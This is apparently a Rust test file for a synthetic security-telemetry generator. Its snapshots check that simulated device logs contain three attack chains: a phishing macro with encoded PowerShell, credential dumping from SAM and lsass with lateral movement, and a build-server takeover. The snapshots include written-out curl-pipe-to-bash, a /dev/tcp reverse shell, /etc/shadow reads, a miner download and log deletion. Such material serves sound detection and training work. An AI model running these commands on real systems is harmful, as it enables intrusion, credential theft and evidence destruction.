use expect_test::{Expect, expect};
use model::Row;
use sandbox::FleetConfig;

use crate::{config, rows_of};

/// What tells one kind of row from another, digests and ids left out.
fn shorten(row: &Row) -> String {
    let table = row.table.name.trim_start_matches("Device");
    let kind = row.text("ActionType");
    let by = row.text("InitiatingProcessFileName");
    let port = crate::number(row, "RemotePort").map(|port| port.to_string()).unwrap_or_default();
    let what = match table {
        "ProcessEvents" => row.text("ProcessCommandLine").to_owned(),
        "NetworkEvents" => format!("{}:{port} {}", row.text("RemoteIP"), row.text("RemoteUrl")),
        "RegistryEvents" => format!("{}\\{}", row.text("RegistryKey"), row.text("RegistryValueName")),
        "LogonEvents" => {
            format!("{} {} from {}", row.text("LogonType"), row.text("AccountName"), row.text("RemoteIP"))
        }
        _ => row.text("FolderPath").to_owned(),
    };
    let what: String = what.chars().take(110).collect();
    let device = row.text("DeviceName").split('.').next().unwrap_or_default();
    format!("{device} {table} {kind} {by} > {what}")
}

/// Whether a path is `C:\Windows\` and a name of eight letters.
fn is_dropped(path: &str) -> bool {
    let path = path.to_lowercase();
    path.starts_with(r"c:\windows\") && path.len() == 23 && !path.ends_with("explorer.exe")
}

/// The rows of the backlog that come from processes of an attack, the first of each beacon only.
fn check(is_part: impl Fn(&Row) -> bool, expected: Expect) {
    let mut shown: Vec<String> = Vec::new();
    for row in rows_of(config(1), 120).iter().filter(|row| is_part(row)) {
        let line = shorten(row);
        if !shown.contains(&line) {
            shown.push(line);
        }
    }
    expected.assert_eq(&shown.join("\n"));
}

#[test]
fn the_phishing_document_runs_in_the_backlog() {
    let marks =
        ["EncodedCommand", "updater.exe", "/all", "Domain Admins", "/dclist", "203.0.113.45", ".docm"];
    check(
        |row| {
            let columns = ["ProcessCommandLine", "InitiatingProcessCommandLine", "FolderPath", "RemoteUrl"];
            let is_windows = row.text("DeviceName").starts_with("tw-pc");
            is_windows
                && columns.iter().any(|column| marks.iter().any(|mark| row.text(column).contains(mark)))
        },
        expect![[r#"
            tw-pc-03 FileEvents FileCreated OUTLOOK.EXE > C:\Users\farid.haddad\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\80076df4\Parcel notice 26588.d
            tw-pc-03 ProcessEvents ProcessCreated OUTLOOK.EXE > "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\farid.haddad\AppData\Local\Microsof
            tw-pc-03 ProcessEvents ProcessCreated WINWORD.EXE > powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand JABkAD0AIgAkAGUAbgB2ADoAQQBQAFAARABBAFQAQQBcAEEA
            tw-pc-03 ImageLoadEvents ImageLoaded powershell.exe > C:\Windows\System32\amsi.dll
            tw-pc-03 NetworkEvents ConnectionSuccess powershell.exe > 203.0.113.45:80 http://203.0.113.45/92yq32f0/u.bin
            tw-pc-03 FileEvents FileCreated powershell.exe > C:\Users\farid.haddad\AppData\Roaming\AudioTune\updater.exe
            tw-pc-03 ProcessEvents ProcessCreated powershell.exe > "C:\Users\farid.haddad\AppData\Roaming\AudioTune\updater.exe"
            tw-pc-03 RegistryEvents RegistryValueSet updater.exe > HKEY_USERS\S-1-5-21-3511265044-1290871355-2704113925-1109\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\AudioT
            tw-pc-03 NetworkEvents ConnectionSuccess updater.exe > 198.51.100.77:443 
            tw-pc-03 ProcessEvents ProcessCreated updater.exe > C:\Windows\system32\cmd.exe
            tw-pc-03 ProcessEvents ProcessCreated cmd.exe > whoami  /all
            tw-pc-03 ProcessEvents ProcessCreated cmd.exe > net  group "Domain Admins" /domain
            tw-pc-03 ProcessEvents ProcessCreated net.exe > C:\Windows\system32\net1  group "Domain Admins" /domain
            tw-pc-03 ProcessEvents ProcessCreated cmd.exe > nltest  /dclist:tidewater.example"#]],
    );
}

#[test]
fn the_credential_theft_reaches_a_server_in_the_backlog() {
    check(
        |row| {
            let command = row.text("InitiatingProcessCommandLine");
            let is_admin = row.text("AccountName").starts_with("adm.") && row.text("LogonType") == "Network";
            row.text("ProcessCommandLine").contains("MiniDump")
                || command.contains("MiniDump")
                || row.text("ProcessCommandLine").contains("save HKLM")
                || is_admin
                || row.text("ActionType") == "ServiceInstalled"
                || is_dropped(row.text("FolderPath"))
                || is_dropped(row.text("InitiatingProcessFolderPath"))
                || is_dropped(row.text("RegistryValueData"))
        },
        expect![[r#"
            tw-pc-04 ProcessEvents ProcessCreated cmd.exe > reg  save HKLM\SAM C:\Windows\Temp\sam.hiv /y
            tw-pc-04 ProcessEvents ProcessCreated cmd.exe > reg  save HKLM\SYSTEM C:\Windows\Temp\system.hiv /y
            tw-pc-04 ProcessEvents ProcessCreated cmd.exe > rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 884 C:\Windows\Temp\tliceh.dmp full
            tw-pc-04 ImageLoadEvents ImageLoaded rundll32.exe > C:\Windows\System32\comsvcs.dll
            tw-pc-04 Events OpenProcessApiCall rundll32.exe > C:\Windows\System32\lsass.exe
            tw-pc-04 FileEvents FileCreated rundll32.exe > C:\Windows\Temp\tliceh.dmp
            tw-srv-01 LogonEvents LogonSuccess lsass.exe > Network adm.tom.reyes from 10.20.0.13
            tw-srv-01 FileEvents FileCreated ntoskrnl.exe > C:\Windows\4bxf3frw.exe
            tw-srv-01 Events ServiceInstalled services.exe > C:\Windows\4bxf3frw.exe
            tw-srv-01 RegistryEvents RegistryValueSet services.exe > HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\4bxf3frw\ImagePath
            tw-srv-01 ProcessEvents ProcessCreated services.exe > C:\Windows\4bxf3frw.exe
            tw-srv-01 ProcessEvents ProcessCreated 4bxf3frw.exe > cmd.exe"#]],
    );
}

#[test]
fn the_build_server_is_compromised_in_the_backlog() {
    check(
        |row| {
            let own = row.text("FolderPath").contains("/.x/")
                || row.text("InitiatingProcessFolderPath").contains("/.x/");
            let named = ["203.0.113.99", "/etc/shadow", "/etc/cron.d", "/.x/", "rm -f", "access.log"];
            let columns = ["ProcessCommandLine", "FolderPath", "RemoteIP"];
            let is_linux = row.text("DeviceName").starts_with("tw-build");
            is_linux
                && (own
                    || columns.iter().any(|column| named.iter().any(|name| row.text(column).contains(name))))
        },
        expect![[r#"
            tw-build-01 NetworkEvents InboundConnectionAccepted python3.10 > 203.0.113.99:40660 
            tw-build-01 ProcessEvents ProcessCreated python3.10 > /bin/sh -c "curl -s http://203.0.113.99/i.sh | bash"
            tw-build-01 ProcessEvents ProcessCreated dash > curl -s http://203.0.113.99/i.sh
            tw-build-01 NetworkEvents ConnectionSuccess curl > 203.0.113.99:80 http://203.0.113.99/i.sh
            tw-build-01 ProcessEvents ProcessCreated bash > bash -i >& /dev/tcp/203.0.113.99/4444 0>&1
            tw-build-01 NetworkEvents ConnectionSuccess bash > 203.0.113.99:4444 
            tw-build-01 ProcessEvents ProcessCreated bash > cat /etc/shadow
            tw-build-01 FileEvents FileCreated bash > /etc/cron.d/sysstat-geh
            tw-build-01 ProcessEvents ProcessCreated bash > curl -s -o /dev/shm/.x/kworkerd http://203.0.113.99/k
            tw-build-01 NetworkEvents ConnectionSuccess curl > 203.0.113.99:80 http://203.0.113.99/k
            tw-build-01 FileEvents FileCreated curl > /dev/shm/.x/kworkerd
            tw-build-01 ProcessEvents ProcessCreated bash > chmod +x /dev/shm/.x/kworkerd
            tw-build-01 ProcessEvents ProcessCreated bash > /dev/shm/.x/kworkerd -o 198.51.100.200:3333 -u tidewater --threads 2
            tw-build-01 NetworkEvents ConnectionSuccess kworkerd > 198.51.100.200:3333 
            tw-build-01 ProcessEvents ProcessCreated bash > rm -f /tmp/i.sh /var/log/nginx/access.log
            tw-build-01 FileEvents FileDeleted rm > /var/log/nginx/access.log"#]],
    );
}

#[test]
fn every_seed_stages_the_three_attacks_in_the_backlog() {
    for seed in 0..5 {
        for devices in [3, 12] {
            let rows = rows_of(FleetConfig { devices, ..config(seed) }, 120);
            let count = |found: &dyn Fn(&Row) -> bool| rows.iter().filter(|row| found(row)).count();
            assert!(count(&|row| row.text("RemoteIP") == "198.51.100.77") >= 40);
            assert_eq!(count(&|row| row.text("RegistryKey").ends_with(r"\CurrentVersion\Run")), 1);
            let access = |row: &Row| {
                row.text("ActionType") == "OpenProcessApiCall"
                    && row.text("FileName") == "lsass.exe"
                    && row.text("AdditionalFields")
                        == r#"{"GrantedAccess":"0x1fffff","DesiredAccess":2097151}"#
            };
            assert_eq!(count(&access), 1);
            assert_eq!(count(&|row| row.text("ActionType") == "ServiceInstalled"), 1);
            assert!(count(&|row| row.text("RemoteIP") == "198.51.100.200") >= 12);
            assert_eq!(count(&|row| row.text("ProcessCommandLine") == "cat /etc/shadow"), 1);
        }
    }
}

#[test]
fn attacks_come_back() {
    let rows = rows_of(FleetConfig { events_per_second: 0.1, ..config(3) }, 24 * 60);
    let runs = rows.iter().filter(|row| row.text("ActionType") == "ServiceInstalled").count();
    assert!((3..=8).contains(&runs), "{runs}");
}

#[test]
fn the_encoded_command_can_be_read() {
    let rows = rows_of(config(1), 60);
    let command =
        rows.iter().map(|row| row.text("ProcessCommandLine")).find(|c| c.contains("EncodedCommand"));
    let encoded = command.unwrap().rsplit(' ').next().unwrap();
    // "$d=" in UTF-16, in base64.
    assert!(encoded.starts_with("JABkAD0A"), "{encoded}");
}
